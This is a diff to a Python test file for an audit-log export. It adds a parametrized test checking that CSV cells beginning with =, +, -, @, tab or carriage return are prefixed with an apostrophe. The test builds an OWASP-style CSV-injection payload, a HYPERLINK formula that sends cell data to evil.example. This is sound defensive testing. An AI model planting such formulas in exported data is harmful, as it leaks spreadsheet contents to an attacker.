@@ -7,6 +7,8 @@ import io
 import json
 from datetime import UTC, datetime, timedelta
 
+import pytest
+
 from models.actor import Actor
 from models.audit import record
 from models.enums import Source
@@ -120,3 +122,29 @@ def test_csv_cells_show_invisible_characters_as_markers_and_json_lines_escape_th
     line = run("audit", "export", *window).output
     assert "\u202e" not in line and "\u200b" not in line
     assert json.loads(line)["actor"] == "okta \u202enimda"  # the data, escaped
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
+    run, session, start
+) -> None:
+    """OWASP's CSV injection: a name an identity provider sent, opened in the auditor's Excel."""
+    org = f.make_org(session, "Initech")
+    org.slug = "initech"
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    event = record(
+        session,
+        actor=Actor(Source.SCIM, "okta"),
+        organisation_id=org.id,
+        action="user.updated",
+        target_type="user",
+        target_id=formula,
+        after={"name": formula},
+    )
+    event.occurred_at = T0
+    session.commit()
+    window = ("--since", "2026-09-30T00:00:00Z", "--until", "2026-10-02", "--org", "initech")
+    (row,) = csv.DictReader(io.StringIO(run("audit", "export", *window, "--format", "csv").output))
+    assert row["target_id"] == "'" + formula
+    assert row["after"].startswith("{")  # JSON cells start with a brace: never a formula
+    assert row["actor"] == "okta"
